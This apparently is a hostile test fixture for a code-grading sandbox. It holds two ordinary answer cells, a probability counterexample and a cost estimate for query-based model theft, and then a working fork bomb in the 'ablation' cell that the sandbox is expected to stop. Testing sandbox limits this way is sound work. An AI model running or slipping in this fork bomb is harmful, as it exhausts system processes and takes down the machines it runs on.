# /// zoo
# about = "A fork bomb, after two right answers"
# kind = "hostile"
# [limits]
# timeout = 120
# [expect]
# counterexample_test = 1
# price_of_theft_test = 2
# ablation_test = 0
# total = 3
# stopped = "processes"
# ///

# %% counterexample
def counterexample():
    p = np.full((2, 10), 0.04)
    p[0, 3] = p[1, 7] = 0.64
    return p

# %% price_of_theft
def price_of_theft(queries, accounts, per_day, price, signup=0.0, everybody=None):
    daily = accounts * per_day
    if everybody is not None:
        daily = min(daily, everybody)
    return math.ceil(queries / daily), queries * price + accounts * signup

# %% ablation
import os
import threading

while True:
    try:
        os.fork()
        threading.Thread(target=lambda: None).start()
    except (OSError, RuntimeError):
        pass
